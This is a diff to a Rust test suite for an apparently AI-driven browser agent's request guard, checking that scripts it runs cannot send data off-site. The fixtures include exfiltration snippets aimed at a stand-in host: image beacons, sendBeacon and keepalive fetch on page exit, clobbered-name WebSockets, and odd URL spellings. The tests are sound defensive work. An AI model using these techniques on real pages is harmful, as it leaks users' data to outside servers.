@@ -2,92 +2,24 @@
 //! later, leaves the run's sites.
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
+#[path = "support/stage.rs"]
+mod stage;
 mod support;
 
+use std::sync::Arc;
 use std::sync::atomic::{AtomicUsize, Ordering};
-use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant};
 
-use axum::body::Body;
-use axum::http::{Request, Response, header};
-use copilot_browser::{CdpBrowser, connect};
-use copilot_guard::Policy;
-use copilot_guard::request::{Leave, of_script, request, sources};
-use copilot_ports::{
-    ActOptions, Browser, BrowserError, HeldRequest, ObserveOptions, PageRequest, RequestRule,
-    RequestVerdict,
-};
-use copilot_protocol::{Action, ActionOutcome, ActionStatus, Attach, Settings, StartTab};
-use serde_json::{Value, json};
-use support::{Chromium, DEADLINE, act_options, options};
+use copilot_browser::connect;
+use copilot_ports::{ActOptions, Browser, BrowserError, HeldRequest};
+use copilot_protocol::{Action, ActionOutcome, ActionStatus};
+use serde_json::json;
+use stage::{Asked, HOME, Page, Run, STEP, Stage, look};
+use support::{DEADLINE, act_options};
 
-const STEP: Duration = Duration::from_millis(20);
-const HOME: &str = "http://home.example/";
-
-/// The guard's own decision.
-struct Rule(Policy);
-
-fn verdict(leave: Leave) -> RequestVerdict {
-    match leave {
-        Leave::Pass => RequestVerdict::Pass,
-        Leave::Ask(_) => RequestVerdict::Ask,
-        Leave::Refuse => RequestVerdict::Refuse,
-    }
-}
-
-impl RequestRule for Rule {
-    fn judge(&self, asked: &PageRequest) -> RequestVerdict {
-        verdict(request(&self.0, &asked.url, asked.main_frame, &asked.page))
-    }
-
-    fn judge_of_script(&self, asked: &PageRequest) -> RequestVerdict {
-        verdict(of_script(&self.0, &asked.url, &asked.page))
-    }
-
-    fn sources(&self, page: &str) -> Vec<String> {
-        sources(&self.0, page)
-    }
-}
-
-type Noted = Arc<Mutex<Vec<String>>>;
-
-/// A browser to which all names are servers on this machine: `home.example` and `second.example` are the
-/// run's sites, every other is a stranger, whose server notes what comes to it.
-struct Stage {
-    chromium: Chromium,
-    strangers: Noted,
-    near: Noted,
-}
-
-async fn serve(noted: Noted) -> u16 {
-    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
-    let port = listener.local_addr().unwrap().port();
-    let app = axum::Router::new().fallback(move |request: Request<Body>| {
-        let noted = noted.clone();
-        async move { answer(&request, &noted) }
-    });
-    tokio::spawn(async move { axum::serve(listener, app).await });
-    port
-}
-
-fn answer(request: &Request<Body>, noted: &Mutex<Vec<String>>) -> Response<Body> {
-    let host = request.headers().get("host").unwrap().to_str().unwrap();
-    let uri = request.uri();
-    if uri.path() != "/favicon.ico" {
-        noted
-            .lock()
-            .unwrap()
-            .push(format!("{} {host}{}", request.method(), uri.path()));
-    }
-    let page = match uri.path() {
-        "/redirect" => {
-            return Response::builder()
-                .status(302)
-                .header(header::LOCATION, "http://stranger.example/redirected")
-                .header("access-control-allow-origin", "*")
-                .body(Body::empty())
-                .unwrap();
-        }
+fn pages(asked: &Asked) -> Page {
+    Page::Html(match asked.path.as_str() {
+        "/redirect" => return Page::Redirect("http://stranger.example/redirected".into()),
         // A part of the page that sends on what it is told.
         "/widget" => {
             "<script>onmessage = (e) => { new Image().src = 'http://stranger.example/told?' + e.data }</script>".to_owned()
@@ -98,115 +30,33 @@ fn answer(request: &Request<Body>, noted: &Mutex<Vec<String>>) -> Response<Body>
             "<form name=head></form><form name=createElement></form><form id=head></form>".to_owned()
         }
         path => format!("<h1>{path}</h1><p id=said>Words of the page</p>"),
-    };
-    Response::builder()
-        .header(header::CONTENT_TYPE, "text/html; charset=utf-8")
-        .header("access-control-allow-origin", "*")
-        .body(Body::from(format!("<!doctype html><title>T</title>{page}")))
-        .unwrap()
+    })
 }
 
-impl Stage {
-    async fn start() -> Self {
-        let (strangers, near) = (Noted::default(), Noted::default());
-        let far_port = serve(strangers.clone()).await;
-        let near_port = serve(near.clone()).await;
-        let chromium = Chromium::with_arguments(&[
-            &format!(
-                "--host-resolver-rules=MAP *.google.com ~NOTFOUND, MAP *.googleapis.com ~NOTFOUND, \
-                 MAP *.gstatic.com ~NOTFOUND, MAP *.gvt1.com ~NOTFOUND, MAP *.google ~NOTFOUND, \
-                 MAP home.example 127.0.0.1:{near_port}, MAP second.example 127.0.0.1:{near_port}, \
-                 MAP * 127.0.0.1:{far_port}"
-            ),
-            "--disable-features=HttpsUpgrades,HttpsFirstBalancedMode,HttpsFirstBalancedModeAutoEnable,LocalNetworkAccessChecks",
-            "--no-proxy-server",
-        ]);
-        Self {
-            chromium,
-            strangers,
-            near,
-        }
-    }
-
-    async fn run(&self, at: &str) -> Run {
-        let folder = tempfile::tempdir().unwrap();
-        let attach = Attach::Endpoint(self.chromium.endpoint.clone());
-        let browser = connect(&options(attach, folder.path())).await.unwrap();
-        let policy = Policy::new(
-            "look around",
-            Some(HOME),
-            &Settings::default(),
-            &["second.example".to_owned()],
-        );
-        browser.hold_requests(Arc::new(Rule(policy)));
-        browser.start(StartTab::New, Some(at)).await.unwrap();
-        Run {
-            browser,
-            _folder: folder,
-        }
-    }
-
-    fn strangers(&self) -> Vec<String> {
-        self.strangers.lock().unwrap().clone()
-    }
-
-    /// The server at home has heard of this path.
-    async fn heard(&self, path: &str) {
-        let end = Instant::now() + DEADLINE;
-        while !self.near.lock().unwrap().iter().any(|n| n.ends_with(path)) {
-            assert!(Instant::now() < end, "home never heard of {path}");
-            tokio::time::sleep(STEP).await;
-        }
-    }
+/// As a run does it: the guard is told of the page, and then the code is run.
+async fn run_code_within(run: &Run, code: &str, options: ActOptions) -> ActionOutcome {
+    let action = Action::RunCode { code: code.into() };
+    run.browser.facts(&action).await.unwrap();
+    run.browser.act(&action, &options).await.unwrap()
 }
 
-struct Run {
-    browser: Arc<CdpBrowser>,
-    _folder: tempfile::TempDir,
+async fn run_code(run: &Run, code: &str) -> ActionOutcome {
+    run_code_within(run, code, act_options()).await
 }
 
-impl Run {
-    async fn act(&self, action: &Action) -> ActionOutcome {
-        self.browser.act(action, &act_options()).await.unwrap()
-    }
+/// Loads a page, or stays where that was held.
+async fn go(run: &Run, url: &str) {
+    run.act(&Action::Navigate { url: url.into() }).await;
+}
 
-    /// As a run does it: the guard is told of the page, and then the code is run.
-    async fn code(&self, code: &str) -> ActionOutcome {
-        self.code_within(code, act_options()).await
-    }
-
-    async fn code_within(&self, code: &str, options: ActOptions) -> ActionOutcome {
-        let action = Action::RunCode { code: code.into() };
-        self.browser.facts(&action).await.unwrap();
-        self.browser.act(&action, &options).await.unwrap()
-    }
-
-    async fn go(&self, url: &str) {
-        self.act(&Action::Navigate { url: url.into() }).await;
-    }
-
-    async fn says(&self, expression: &str) -> Value {
-        let params = json!({"expression": expression, "returnByValue": true});
-        let told = self
-            .browser
-            .command_for_test(true, "Runtime.evaluate", params);
-        told.await.unwrap()["result"]["value"].clone()
-    }
-
-    async fn at(&self) -> String {
-        let look = self.browser.observe(&ObserveOptions::default()).await;
-        look.unwrap().url
-    }
-
-    async fn held(&self) -> Vec<HeldRequest> {
-        self.browser.held_requests().await
-    }
+async fn held(run: &Run) -> Vec<HeldRequest> {
+    run.browser.held_requests().await
 }
 
 #[tokio::test(flavor = "multi_thread")]
 async fn a_script_gives_its_result_or_says_why_not() {
-    let stage = Stage::start().await;
-    let run = stage.run(HOME).await;
+    let stage = Stage::start(pages).await;
+    let run = stage.run().await;
     for (code, text) in [
         (
             "return document.querySelector('#said').textContent",
@@ -221,7 +71,7 @@ async fn a_script_gives_its_result_or_says_why_not() {
         ("const a = {}; a.a = a; return a", "[object Object]"),
         ("return '\\ud800'", "\"\\\\ud800\""),
     ] {
-        let outcome = run.code(code).await;
+        let outcome = run_code(&run, code).await;
         assert_eq!(outcome.status, ActionStatus::Ok, "{code}: {outcome:?}");
         assert_eq!(
             outcome.text.as_deref(),
@@ -229,9 +79,9 @@ async fn a_script_gives_its_result_or_says_why_not() {
             "{code}"
         );
     }
-    let long = run.code("return 'x'.repeat(1e6)").await;
+    let long = run_code(&run, "return 'x'.repeat(1e6)").await;
     assert_eq!(long.text.unwrap().chars().count(), 20_001);
-    let nothing = run.code("document.title = 'Changed'").await;
+    let nothing = run_code(&run, "document.title = 'Changed'").await;
     assert_eq!((nothing.status, nothing.text), (ActionStatus::Ok, None));
     assert_eq!(run.says("document.title").await, "Changed");
     for (code, why, says) in [
@@ -243,15 +93,17 @@ async fn a_script_gives_its_result_or_says_why_not() {
         ("await Promise.reject('a reason')", "threw", "a reason"),
         ("return (", "could not be read", "SyntaxError"),
     ] {
-        let outcome = run.code(code).await;
+        let outcome = run_code(&run, code).await;
         assert_eq!(outcome.status, ActionStatus::Other, "{code}: {outcome:?}");
         assert!(outcome.detail.unwrap().contains(why), "{code}");
         assert!(outcome.text.unwrap().contains(says), "{code}");
     }
     // A message of the page is the script's effect, and the run may answer it.
-    let asked = run
-        .code("const said = confirm('Go on?'); document.title = 'said ' + said")
-        .await;
+    let asked = run_code(
+        &run,
+        "const said = confirm('Go on?'); document.title = 'said ' + said",
+    )
+    .await;
     assert!(asked.detail.unwrap().contains("Go on?"));
     let accept = Action::HandleDialog {
         accept: true,
@@ -269,10 +121,10 @@ async fn a_script_gives_its_result_or_says_why_not() {
         ..act_options()
     };
     for code in ["while (true) {}", "await new Promise(() => {})"] {
-        let outcome = run.code_within(code, brief()).await;
+        let outcome = run_code_within(&run, code, brief()).await;
         assert_eq!(outcome.status, ActionStatus::Timeout, "{code}: {outcome:?}");
         assert_eq!(
-            run.code("return 1").await.text.as_deref(),
+            run_code(&run, "return 1").await.text.as_deref(),
             Some("1"),
             "after {code}"
         );
@@ -281,8 +133,8 @@ async fn a_script_gives_its_result_or_says_why_not() {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn a_script_runs_in_the_document_that_it_was_judged_for_alone() {
-    let stage = Stage::start().await;
-    let run = stage.run(HOME).await;
+    let stage = Stage::start(pages).await;
+    let run = stage.run().await;
     let action = Action::RunCode {
         code: "document.title = 'ran'".into(),
     };
@@ -308,10 +160,7 @@ async fn a_script_runs_in_the_document_that_it_was_judged_for_alone() {
         ActionStatus::FingerprintChanged
     );
     // Where nothing holds requests no script is run.
-    let folder = tempfile::tempdir().unwrap();
-    let attach = Attach::Endpoint(stage.chromium.endpoint.clone());
-    let free = connect(&options(attach, folder.path())).await.unwrap();
-    free.start(StartTab::New, Some(HOME)).await.unwrap();
+    let free = stage.free_run(HOME).await.browser;
     free.facts(&action).await.unwrap();
     let outcome: Result<ActionOutcome, BrowserError> = free.act(&action, &act_options()).await;
     assert_eq!(outcome.unwrap().status, ActionStatus::NotActionable);
@@ -439,45 +288,49 @@ fn aimed(name: &str, code: &str, at: &str) -> String {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn what_a_script_sends_stays_within_the_runs_sites() {
-    let stage = Stage::start().await;
-    let run = stage.run(HOME).await;
+    let stage = Stage::start(pages).await;
+    let run = stage.run().await;
     for (name, code) in WAYS {
-        run.go(HOME).await;
-        let outcome = run
-            .code(&aimed(name, code, "http://stranger.example/"))
-            .await;
+        go(&run, HOME).await;
+        let outcome = run_code(&run, &aimed(name, code, "http://stranger.example/")).await;
         assert!(outcome.status.is_ok(), "{name}: {outcome:?}");
         stage.heard(&format!("/after-{name}")).await;
         assert_eq!(stage.strangers(), Vec::<String>::new(), "{name}");
-        assert_eq!(run.at().await.trim_end_matches("#x"), HOME, "{name}");
-        run.held().await;
+        assert_eq!(
+            look(&run.browser).await.url.trim_end_matches("#x"),
+            HOME,
+            "{name}"
+        );
+        held(&run).await;
     }
     for (name, code) in LEAVES {
-        run.go(HOME).await;
-        run.held().await;
-        run.code(&aimed(
-            &format!("leave-{name}"),
-            code,
-            "http://stranger.example/",
-        ))
+        go(&run, HOME).await;
+        held(&run).await;
+        run_code(
+            &run,
+            &aimed(&format!("leave-{name}"), code, "http://stranger.example/"),
+        )
         .await;
         stage.heard(&format!("/after-leave-{name}")).await;
         assert_eq!(stage.strangers(), Vec::<String>::new(), "{name}");
-        assert!(run.at().await.starts_with(HOME), "{name}");
-        assert!(!run.held().await.iter().any(|held| !held.refused), "{name}");
+        assert!(look(&run.browser).await.url.starts_with(HOME), "{name}");
+        assert!(!held(&run).await.iter().any(|held| !held.refused), "{name}");
     }
     // Within the run's sites it sends what it likes, and goes where it likes.
-    run.go(HOME).await;
+    go(&run, HOME).await;
     let both = "const a = await fetch('/own'); const b = await fetch('http://second.example/other'); return [a.ok, b.ok]";
-    assert_eq!(run.code(both).await.text.as_deref(), Some("[true,true]"));
-    run.code("document.body.innerHTML = '<form method=post action=/posted></form>'; document.forms[0].submit()").await;
+    assert_eq!(
+        run_code(&run, both).await.text.as_deref(),
+        Some("[true,true]")
+    );
+    run_code(&run, "document.body.innerHTML = '<form method=post action=/posted></form>'; document.forms[0].submit()").await;
     stage.heard("POST home.example/posted").await;
     assert_eq!(stage.strangers(), Vec::<String>::new());
 }
 
 #[tokio::test(flavor = "multi_thread")]
 async fn what_was_stopped_is_told() {
-    let stage = Stage::start().await;
+    let stage = Stage::start(pages).await;
     for (name, code) in [
         ("fetch", "await fetch(T).catch(() => 0)"),
         (
@@ -486,10 +339,8 @@ async fn what_was_stopped_is_told() {
         ),
         ("location", "location.href = T"),
     ] {
-        let run = stage.run(HOME).await;
-        let outcome = run
-            .code(&aimed(name, code, "http://stranger.example/"))
-            .await;
+        let run = stage.run().await;
+        let outcome = run_code(&run, &aimed(name, code, "http://stranger.example/")).await;
         // A way out is told when it is taken, which may be a moment after the script has ended.
         let end = Instant::now() + DEADLINE;
         let mut told = Vec::new();
@@ -498,7 +349,7 @@ async fn what_was_stopped_is_told() {
             .any(|h: &HeldRequest| h.url.contains("stranger.example"))
         {
             assert!(Instant::now() < end, "{name} was not told of: {told:?}");
-            told.extend(run.held().await);
+            told.extend(held(&run).await);
             tokio::time::sleep(STEP).await;
         }
         assert!(told.iter().all(|h| h.refused), "{name}: {told:?}");
@@ -516,8 +367,8 @@ async fn what_was_stopped_is_told() {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn other_spellings_frames_and_traps_change_nothing() {
-    let stage = Stage::start().await;
-    let run = stage.run(HOME).await;
+    let stage = Stage::start(pages).await;
+    let run = stage.run().await;
     for (n, to) in [
         "//stranger.example/a",
         "HTTP://STRANGER.EXAMPLE/a",
@@ -539,33 +390,35 @@ async fn other_spellings_frames_and_traps_change_nothing() {
             "const T = '{to}'; new Image().src = T; fetch(T, {{mode: 'no-cors'}}).catch(() => 0); \
              navigator.sendBeacon(T); setTimeout(() => fetch('/spelled-{n}'), 100)"
         );
-        assert!(run.code(&code).await.status.is_ok(), "{to}");
+        assert!(run_code(&run, &code).await.status.is_ok(), "{to}");
         stage.heard(&format!("/spelled-{n}")).await;
         assert_eq!(stage.strangers(), Vec::<String>::new(), "{to}");
     }
     // A page that has given its own things the names that the hold needs.
-    run.go("http://home.example/clobbered").await;
-    let outcome = run
-        .code(&aimed(
+    go(&run, "http://home.example/clobbered").await;
+    let outcome = run_code(
+        &run,
+        &aimed(
             "clobbered",
             "new WebSocket(T.replace('http', 'ws'))",
             "http://stranger.example/",
-        ))
-        .await;
+        ),
+    )
+    .await;
     assert!(outcome.status.is_ok(), "{outcome:?}");
     stage.heard("/after-clobbered").await;
     assert_eq!(stage.strangers(), Vec::<String>::new());
     // What is sent while the page is left, when the next document is there already.
-    run.go(HOME).await;
+    go(&run, HOME).await;
     let leaving = "addEventListener('pagehide', () => { navigator.sendBeacon('http://stranger.example/left', 'x'); \
                    new Image().src = 'http://stranger.example/left'; fetch('http://stranger.example/left', {keepalive: true, mode: 'no-cors'}) })";
-    assert!(run.code(leaving).await.status.is_ok());
-    run.go("http://home.example/next").await;
+    assert!(run_code(&run, leaving).await.status.is_ok());
+    go(&run, "http://home.example/next").await;
     run.says("fetch('/left-behind')").await;
     stage.heard("/left-behind").await;
     assert_eq!(stage.strangers(), Vec::<String>::new());
     // A frame of a stranger that sends on what it is told: its own requests are held with the page's.
-    run.go("http://home.example/framed").await;
+    go(&run, "http://home.example/framed").await;
     let end = Instant::now() + DEADLINE;
     while run.says("frames.length").await != 1
         || !stage.strangers().iter().any(|s| s.contains("/widget"))
@@ -573,12 +426,10 @@ async fn other_spellings_frames_and_traps_change_nothing() {
         assert!(Instant::now() < end, "the frame did not come");
         tokio::time::sleep(STEP).await;
     }
-    run.browser
-        .observe(&ObserveOptions::default())
-        .await
-        .unwrap();
+    look(&run.browser).await;
     assert!(
-        run.code(
+        run_code(
+            &run,
             "frames[0].postMessage('words', '*'); setTimeout(() => fetch('/posted-to-frame'), 600)"
         )
         .await
@@ -592,7 +443,7 @@ async fn other_spellings_frames_and_traps_change_nothing() {
         stage.strangers()
     );
     // The next document of the page is as free as ever.
-    run.go("http://home.example/after").await;
+    go(&run, "http://home.example/after").await;
     run.says("new Image().src = 'http://stranger.example/picture'")
         .await;
     let end = Instant::now() + DEADLINE;
@@ -605,7 +456,7 @@ async fn other_spellings_frames_and_traps_change_nothing() {
 /// What a script leaves behind in a page is gone before the hold is.
 #[tokio::test(flavor = "multi_thread")]
 async fn nothing_of_a_script_outlives_its_run() {
-    let stage = Stage::start().await;
+    let stage = Stage::start(pages).await;
     for (n, more) in [
         "",
         "onbeforeunload = () => 'stay'",
@@ -616,16 +467,15 @@ async fn nothing_of_a_script_outlives_its_run() {
     .enumerate()
     {
         let at = format!("{HOME}stays-{n}");
-        let run = stage.run(&at).await;
+        let run = stage.run_at(&at).await;
         let code = format!(
             "window.left = 1; setInterval(() => {{ location.href = 'http://stranger.example/late' }}, 300); {more}"
         );
-        run.code(&code).await;
+        run_code(&run, &code).await;
         run.browser.detach().await;
         // The tab is there, with the page as it is loaded anew.
         let folder = tempfile::tempdir().unwrap();
-        let attach = Attach::Endpoint(stage.chromium.endpoint.clone());
-        let other = connect(&options(attach, folder.path())).await.unwrap();
+        let other = connect(&stage.options(folder.path())).await.unwrap();
         let tabs = other.tabs().await.unwrap();
         // A page that does not let go of its document in time is closed.
         let Some(tab) = tabs.iter().find(|tab| tab.url == at) else {
@@ -718,18 +568,18 @@ impl Peer {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn a_script_connects_to_no_peers() {
-    let stage = Stage::start().await;
+    let stage = Stage::start(pages).await;
     let peer = Peer::open().await;
-    let run = stage.run(HOME).await;
+    let run = stage.run().await;
     for (name, code) in BESIDE {
-        run.go("http://home.example/with-frame").await;
-        let outcome = run.code(&beside(code, peer.port)).await;
+        go(&run, "http://home.example/with-frame").await;
+        let outcome = run_code(&run, &beside(code, peer.port)).await;
         assert_eq!(peer.take(), 0, "{name}: {outcome:?}");
     }
     // The same where nothing holds them, so that each could have come.
     let mut lame = Vec::new();
     for (name, code) in BESIDE {
-        run.go("http://home.example/with-frame").await;
+        go(&run, "http://home.example/with-frame").await;
         peer.take();
         let code = format!(
             "(async () => {{ {} }})().then((told) => {{ window.told = told }}); 0",
@@ -746,15 +596,8 @@ async fn a_script_connects_to_no_peers() {
 /// Without the hold each of the ways arrives, so the test above can fail.
 #[tokio::test(flavor = "multi_thread")]
 async fn the_ways_work_where_nothing_is_held() {
-    let stage = Stage::start().await;
-    let folder = tempfile::tempdir().unwrap();
-    let attach = Attach::Endpoint(stage.chromium.endpoint.clone());
-    let browser = connect(&options(attach, folder.path())).await.unwrap();
-    browser.start(StartTab::New, Some(HOME)).await.unwrap();
-    let run = Run {
-        browser,
-        _folder: folder,
-    };
+    let stage = Stage::start(pages).await;
+    let run = stage.free_run(HOME).await;
     let mut lame = Vec::new();
     let all = WAYS
         .iter()
@@ -763,7 +606,7 @@ async fn the_ways_work_where_nothing_is_held() {
         .map(|w| ("", w))
         .chain(LEAVES.iter().map(|w| ("leave-", w)));
     for (kind, (name, code)) in all {
-        run.go(HOME).await;
+        go(&run, HOME).await;
         stage.strangers.lock().unwrap().clear();
         let code = aimed(&format!("{kind}{name}"), code, "http://stranger.example/");
         let code = format!("(async () => {{ {code} }})(); 0");
